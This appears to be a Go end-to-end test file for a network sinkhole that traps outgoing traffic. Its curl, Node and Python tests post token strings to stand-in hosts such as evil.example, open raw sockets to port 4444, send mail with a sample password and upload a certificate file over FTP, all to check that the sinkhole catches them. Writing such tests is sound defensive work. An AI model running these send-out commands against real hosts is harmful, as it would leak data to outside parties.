//go:build linux && e2e

package sinkhole

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// program skips the test unless it is to be had, and runs it with the run's
// authority as the only one to trust.
func program(t *testing.T, bundle, name string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Env = append(os.Environ(), "SSL_CERT_FILE="+bundle, "NODE_EXTRA_CA_CERTS="+bundle, "CURL_CA_BUNDLE="+bundle, "REQUESTS_CA_BUNDLE="+bundle)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func need(t *testing.T, name string) {
	t.Helper()
	if _, err := exec.LookPath(name); err != nil {
		if strings.Contains(","+os.Getenv("COALMINE_REQUIRE")+",", ","+name+",") {
			t.Fatalf("%s is required here (COALMINE_REQUIRE), but %v", name, err)
		}
		t.Skipf("needs %s: %v", name, err)
	}
}

// resolv has programs ask the sinkhole for names.
func resolv(t testing.TB) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(path, []byte("nameserver "+Nameserver.String()+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(path, "/etc/resolv.conf", "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
}

func trusting(t *testing.T) (*Authority, string) {
	t.Helper()
	a, err := NewAuthority()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(path, a.PEM(), 0o644); err != nil {
		t.Fatal(err)
	}
	return a, path
}

func TestCurl(t *testing.T) {
	if !inside(t) {
		return
	}
	need(t, "curl")
	resolv(t)
	a, bundle := trusting(t)
	j := arm(t, Config{Authority: a})
	for _, flag := range []string{"--http1.1", "--http2"} {
		for _, url := range []string{"https://evil.example/x", "https://evil2.example:8443/x", "http://evil3.example/x", "http://[2606:2800:220:1::1]:8080/x"} {
			text := "token=" + flag + url
			if out, err := program(t, bundle, "curl", "-sSf", "-m", "8", flag, "-d", text, url); err != nil {
				t.Errorf("%s %s: %v %s", flag, url, err, out)
				continue
			}
			j.closed(t, text)
		}
	}
	out, err := program(t, bundle, "curl", "-sS", "-m", "8", "--cacert", "/etc/hostname", "https://pinned.example/")
	if err == nil {
		t.Errorf("pinned: %s", out)
	}
	if e := j.wait(t, "pinned", func(e Event) bool { return e.Type == TypeClose && e.SNI == "pinned.example" }); !e.Opaque {
		t.Errorf("%+v", e)
	}
	if out, err := program(t, bundle, "curl", "-sS", "-m", "8", "-T", bundle, "ftp://ftp.example/up.txt"); err != nil {
		t.Errorf("ftp: %v %s", err, out)
	}
	j.closed(t, "BEGIN CERTIFICATE")
	if out, err := program(t, bundle, "curl", "-sS", "-m", "8", "-x", "http://proxy.example:3128", "-d", "by proxy", "https://beyond.example/"); err != nil {
		t.Errorf("proxy: %v %s", err, out)
	}
	j.closed(t, "by proxy")
}

func TestNode(t *testing.T) {
	if !inside(t) {
		return
	}
	need(t, "node")
	resolv(t)
	a, bundle := trusting(t)
	j := arm(t, Config{Authority: a})
	script := `const dgram=require('dgram');(async()=>{
const r=await fetch('https://evil.example/x',{method:'POST',body:'node fetch'});console.log(r.status,await r.text());
const u=dgram.createSocket('udp4');await new Promise(f=>u.send('node udp',9999,'8.8.4.4',f));u.close();
console.log((await require('dns').promises.resolveMx('evil.example')).length)})()`
	if out, err := program(t, bundle, "node", "-e", script); err != nil || !strings.HasPrefix(out, "200") {
		t.Errorf("%v %s", err, out)
	}
	j.wait(t, "fetch", func(e Event) bool { return strings.Contains(string(e.Data), "node fetch") && e.Host == "evil.example" })
	j.wait(t, "udp", func(e Event) bool { return string(e.Data) == "node udp" })
	if out, err := program(t, "/dev/null", "node", "-e", `fetch('https://pinned.example/').catch(e=>{console.log(e.cause.code);process.exit(7)})`); err == nil {
		t.Errorf("pinned: %s", out)
	}
	if e := j.wait(t, "pinned", func(e Event) bool { return e.Type == TypeClose && e.SNI == "pinned.example" }); !e.Opaque {
		t.Errorf("%+v", e)
	}
}

func TestPython(t *testing.T) {
	if !inside(t) {
		return
	}
	need(t, "python3")
	resolv(t)
	a, bundle := trusting(t)
	j := arm(t, Config{Authority: a})
	script := `
import socket, urllib.request
print(urllib.request.urlopen(urllib.request.Request('https://evil.example/collect', data=b'python https'), timeout=6).status)
s = socket.create_connection(('raw.example', 4444), 5); s.sendall(b'python raw'); s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'python udp', ('8.8.4.4', 9999))
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); b.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); b.sendto(b'python broadcast', ('255.255.255.255', 9997))
import smtplib
m = smtplib.SMTP('mail.example', 587, timeout=5); m.login('user', 'pa55'); m.sendmail('a@b.example', ['c@d.example'], 'Subject: x\n\npython mail'); m.quit()
`
	if out, err := program(t, bundle, "python3", "-c", script); err != nil {
		t.Errorf("%v %s", err, out)
	}
	for _, text := range []string{"python https", "python raw", "python mail", "python udp", "python broadcast"} {
		j.wait(t, text, func(e Event) bool { return strings.Contains(string(e.Data), text) })
	}
}

const serveEnv = "SINKHOLE_SERVE"

// serveMain is Serve in a process of its own, without capabilities. It writes
// its events to its standard output and ends with its input.
func serveMain() int {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil || !strings.Contains(string(status), "CapEff:\t0000000000000000") {
		fmt.Fprintln(os.Stderr, "this process has capabilities", err)
		return 1
	}
	var files []*os.File
	n, _ := strconv.Atoi(os.Getenv(serveEnv))
	for fd := uintptr(3); fd < 3+uintptr(n); fd++ {
		files = append(files, os.NewFile(fd, "listener"))
	}
	var c Config
	in := bufio.NewReader(os.Stdin)
	line, err := in.ReadBytes('\n')
	if err == nil {
		err = json.Unmarshal(line, &c)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return serveUntil(in, files, c)
}

// apart serves in a process of its own and returns that, with its memory.
func apart(t testing.TB, c Config) (*journal, func() int) {
	t.Helper()
	a, err := NewAuthority()
	if err != nil {
		t.Fatal(err)
	}
	c.Authority = a
	s, err := Arm(c)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("/proc/self/exe")
	cmd.Env = append(os.Environ(), serveEnv+"="+strconv.Itoa(len(s.Files)))
	cmd.ExtraFiles, cmd.Stderr = s.Files, os.Stderr
	in, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	started := make(chan error)
	go func() {
		runtime.LockOSThread() // and never unlock it: the bits are the thread's, and its children's
		const noRoot, noRootLocked = 1, 2
		if err := unix.Prctl(unix.PR_SET_SECUREBITS, noRoot|noRootLocked, 0, 0, 0); err != nil {
			started <- err
			return
		}
		started <- cmd.Start()
	}()
	if err := <-started; err != nil {
		t.Fatal(err)
	}
	_ = s.Close()
	first, _ := json.Marshal(c)
	if _, err := in.Write(append(first, '\n')); err != nil {
		t.Fatal(err)
	}
	j := newJournal()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		d := json.NewDecoder(out)
		for {
			var e Event
			if d.Decode(&e) != nil {
				return
			}
			j.emit(e)
		}
	}()
	t.Cleanup(func() {
		in.Close()
		<-ended
		if err := cmd.Wait(); err != nil {
			t.Errorf("the serving process: %v", err)
		}
	})
	return j, func() int { return peak(t, cmd.Process.Pid) }
}

// peak is a process's largest resident set, in KiB.
func peak(t testing.TB, pid int) int {
	t.Helper()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	_, rest, _ := bytes.Cut(status, []byte("VmHWM:"))
	var kib int
	_, _ = fmt.Sscanf(string(rest), "%d", &kib)
	return kib
}
